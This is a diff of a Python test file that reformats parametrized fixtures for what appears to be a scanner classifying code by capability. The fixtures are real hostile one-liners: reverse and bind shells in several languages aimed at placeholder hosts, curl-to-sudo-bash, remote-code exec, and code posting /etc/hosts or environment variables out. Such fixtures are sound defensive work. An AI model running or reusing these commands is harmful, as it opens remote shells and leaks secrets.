@@ -92,7 +92,10 @@ REVERSE_SHELLS = [
         'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(1, inet_aton("192.0.2.1")));'
         ' open(STDIN, ">&S"); open(STDOUT, ">&S"); exec("/bin/sh -i");',
     ),
-    ("ruby", 'require "socket"; c = TCPSocket.new("192.0.2.1", 1); while (l = c.gets); IO.popen(l) { |o| c.print o.read }; end'),
+    (
+        "ruby",
+        'require "socket"; c = TCPSocket.new("192.0.2.1", 1); while (l = c.gets); IO.popen(l) { |o| c.print o.read }; end',
+    ),
     ("ruby", 'spawn("sh", [:in, :out, :err] => TCPSocket.new("192.0.2.1", 1))'),
     (
         "javascript",
@@ -108,7 +111,7 @@ REVERSE_SHELLS = [
     ),
     ("shell", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"),
     ("shell", "nc -e /bin/sh 192.0.2.1 1"),
-    ("tcl", "set s [socket 192.0.2.1 1]; while 1 { gets $s c; set e \"exec $c\"; puts $s [eval $e] }"),
+    ("tcl", 'set s [socket 192.0.2.1 1]; while 1 { gets $s c; set e "exec $c"; puts $s [eval $e] }'),
     ("julia", 'using Sockets; s = connect("192.0.2.1", 1); while true; c = split(readline(s)); run(`$c`); end'),
 ]
 
@@ -122,21 +125,57 @@ def test_a_reverse_shell_is_put_together_from_its_parts(language, text):
 @pytest.mark.parametrize(
     ("capability", "language", "text"),
     [
-        ("network.bind-shell", "javascript", "const s = require('child_process').spawn('sh'); require('net').createServer(c => c.pipe(s.stdin)).listen(1)"),
-        ("network.bind-shell", "awk", 'BEGIN { s = "/inet/tcp/9001/0/0"; while ((s |& getline c) > 0) while ((c |& getline) > 0) print $0 |& s }'),
-        ("network.download-and-execute", "python", "import urllib.request as r; exec(r.urlopen('https://example.org/x').read())"),
+        (
+            "network.bind-shell",
+            "javascript",
+            "const s = require('child_process').spawn('sh'); require('net').createServer(c => c.pipe(s.stdin)).listen(1)",
+        ),
+        (
+            "network.bind-shell",
+            "awk",
+            'BEGIN { s = "/inet/tcp/9001/0/0"; while ((s |& getline c) > 0) while ((c |& getline) > 0) print $0 |& s }',
+        ),
+        (
+            "network.download-and-execute",
+            "python",
+            "import urllib.request as r; exec(r.urlopen('https://example.org/x').read())",
+        ),
         ("network.download-and-execute", "ruby", "require 'open-uri'; eval(URI.open('https://example.org/x').read)"),
         ("network.download-file", "python", "import urllib.request as r; r.urlretrieve('https://example.org/x', 'y')"),
         ("network.download-file", "php", "file_put_contents('x', file_get_contents('https://example.org/x'));"),
-        ("network.download-file", "javascript", "require('https').get('https://example.org/x', r => r.pipe(require('fs').createWriteStream('y')))"),
+        (
+            "network.download-file",
+            "javascript",
+            "require('https').get('https://example.org/x', r => r.pipe(require('fs').createWriteStream('y')))",
+        ),
         ("network.pipe-to-interpreter", "shell", "curl -s https://example.org/x | sudo bash"),
         ("network.pipe-to-interpreter", "shell", "bash <(curl -s https://example.org/x)"),
         ("network.cleartext", "shell", "wget http://example.org/x"),
-        ("network.send-file", "python", "import requests; requests.post('https://example.org', data=open('/etc/hosts').read())"),
-        ("network.send-file", "lua", 'local d = io.open("x", "rb"):read("*a"); local t = require("socket").tcp(); t:connect("h", 1); t:send(d)'),
-        ("network.send-environment", "python", "import os, requests; requests.post('https://example.org', json=dict(os.environ))"),
-        ("network.send-environment", "javascript", "fetch('https://example.org', {method: 'POST', body: JSON.stringify(process.env)})"),
-        ("network.serve-files", "python", "import http.server as s, socketserver as t; t.TCPServer(('', 1), s.SimpleHTTPRequestHandler).serve_forever()"),
+        (
+            "network.send-file",
+            "python",
+            "import requests; requests.post('https://example.org', data=open('/etc/hosts').read())",
+        ),
+        (
+            "network.send-file",
+            "lua",
+            'local d = io.open("x", "rb"):read("*a"); local t = require("socket").tcp(); t:connect("h", 1); t:send(d)',
+        ),
+        (
+            "network.send-environment",
+            "python",
+            "import os, requests; requests.post('https://example.org', json=dict(os.environ))",
+        ),
+        (
+            "network.send-environment",
+            "javascript",
+            "fetch('https://example.org', {method: 'POST', body: JSON.stringify(process.env)})",
+        ),
+        (
+            "network.serve-files",
+            "python",
+            "import http.server as s, socketserver as t; t.TCPServer(('', 1), s.SimpleHTTPRequestHandler).serve_forever()",
+        ),
         ("network.serve-files", "ruby", "httpd"),
         ("memory.execute", "python", "import ctypes; ctypes.CDLL(None).syscall(319, b'', 0)"),
         ("memory.execute", "python", "import os; os.memfd_create('x')"),
